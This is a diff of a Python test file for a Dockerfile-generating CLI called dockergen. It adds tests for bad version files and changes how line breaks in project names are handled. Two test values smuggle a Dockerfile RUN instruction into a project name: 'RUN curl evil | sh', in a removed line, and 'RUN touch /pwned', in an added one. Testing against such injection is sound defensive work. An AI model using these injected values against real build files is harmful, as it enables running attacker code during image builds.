@@ -13,7 +13,7 @@ from typer.testing import CliRunner
 
 from dockergen.cli import app
 from dockergen.errors import ExitCode
-from tests.conftest import REPO
+from tests.conftest import REPO, build_tree
 
 runner = CliRunner()
 SCRIPT = {"main.py": "print('hi')\n"}
@@ -84,8 +84,9 @@ def test_every_toml_parse_goes_through_read_toml():
 
     (tomlkit, which keeps comments for editing a file dockergen saves answers to, is not a reader.)"""
     offenders = []
+    own_data = {"files.py", "native_deps.py"}  # native_deps parses dockergen's own shipped data file
     for path in (REPO / "dockergen").rglob("*.py"):
-        if path.name == "files.py":
+        if path.name in own_data:
             continue
         text = path.read_text(encoding="utf-8")
         if re.search(r"\b(tomllib|tomli)\.loads?\(", text):
@@ -115,7 +116,21 @@ def test_include_outside_the_project(tree, tmp_path):
     init_fails(root, ExitCode.BAD_PROJECT, r"requirements.txt:2 points outside the project")
 
 
-@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml", ".python-version"])
+def _warned_and_ignored(root: Path, pattern: str) -> None:
+    """Version sources (.python-version, runtime.txt) are warned about and skipped (DG1030's rule)."""
+    result = runner.invoke(app, ["init", "--yes", "--dry-run", str(root)])
+    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
+    assert re.search(rf"warning: {pattern}.* Ignored as a Python version source", result.output), result.output
+
+
+def test_non_utf8_or_folder_version_file_is_a_warning(tmp_path):
+    _warned_and_ignored(build_tree(tmp_path / "a", {**SCRIPT, ".python-version": b"3.1\xe92\n"}),
+                        r"\.python-version is not valid UTF-8")
+    _warned_and_ignored(build_tree(tmp_path / "b", {**SCRIPT, ".python-version/x": "3.12\n"}),
+                        r"\.python-version is a folder")
+
+
+@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml"])
 def test_non_utf8_text_file(tree, name):
     root = tree({**SCRIPT, name: b"caf\xe9 = 1\n"})
     init_fails(root, ExitCode.BAD_PROJECT, rf"{re.escape(name)} is not valid UTF-8", r"Save .* as UTF-8")
@@ -134,7 +149,7 @@ def test_fifty_megabyte_requirements_file(tree):
     init_fails(root, ExitCode.BAD_PROJECT, r"requirements.txt is 50 MB, too large")
 
 
-@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml", ".python-version", "setup.py"])
+@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml", "setup.py"])
 def test_folder_where_a_file_is_expected(tree, name):
     root = tree({**SCRIPT, f"{name}/inner.txt": "x\n"})
     init_fails(root, ExitCode.BAD_PROJECT, rf"{re.escape(name)} is a folder, but a file was expected")
@@ -192,10 +207,12 @@ def test_any_python_marker_makes_a_project(tree, files):
     assert runner.invoke(app, ["init", "--yes", "--dry-run", str(root)]).exit_code == 0
 
 
-def test_unsafe_project_name_is_refused_not_written_dg3012(tree):
-    root = tree({**SCRIPT, "pyproject.toml": '[project]\nname = "x\\nRUN curl evil | sh"\nversion = "1"\n'})
-    init_fails(root, ExitCode.BAD_CONFIG, r"Cannot write 'x\\nRUN curl evil \| sh' into the Dockerfile",
-               r"line break")
+def test_project_name_with_a_line_break_stays_one_label_dg3012(tree):
+    root = tree({**SCRIPT, "pyproject.toml": '[project]\nname = "x\\nRUN touch /pwned"\nversion = "1"\n'})
+    result = runner.invoke(app, ["init", "--yes", "--dry-run", str(root)])
+    assert result.exit_code == 0, result.output
+    assert "\nRUN touch" not in result.output
+    assert 'LABEL org.opencontainers.image.title="x RUN touch /pwned"\n' in result.output
 
 
 def test_unsafe_include_name_is_refused_dg3012(tree):
